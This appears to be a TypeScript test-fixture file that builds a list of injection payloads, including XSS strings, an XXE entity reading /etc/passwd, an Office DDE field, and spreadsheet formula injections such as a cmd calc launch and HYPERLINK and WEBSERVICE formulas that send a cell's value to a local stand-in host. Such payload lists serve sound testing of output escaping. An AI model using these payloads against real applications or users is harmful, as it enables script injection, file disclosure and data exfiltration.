/** Texts that have run as a script somewhere. */
const SCRIPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<a href="javascript:alert(1)">链接</a>',
  "<body onload=alert(1)>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<details open ontoggle=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<style>@import'http://127.0.0.1:9/x'</style>",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml-stylesheet href="http://127.0.0.1:9/x"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u202e<script>alert(1)</script>",
  "${alert(1)}{{constructor.constructor('alert(1)')()}}",
  "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r>",
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  "_x003C_script_x003E_alert(1)",
];
const WRAPPED: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => `"'>${script}`,
  (script) => `]]>${script}--`,
];

/** Texts a spreadsheet program computes when a cell holds them untyped. */
const FORMULA_SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "%0A="];
const FORMULAS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://127.0.0.1:9/?x="&A1,"点击")',
  "1+1",
  'WEBSERVICE("http://127.0.0.1:9/")',
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPTS.flatMap((script) => WRAPPED.map((wrap) => wrap(script))),
  ...FORMULA_SIGNS.flatMap((sign) => FORMULAS.map((formula) => `${sign}${formula}`)),
];
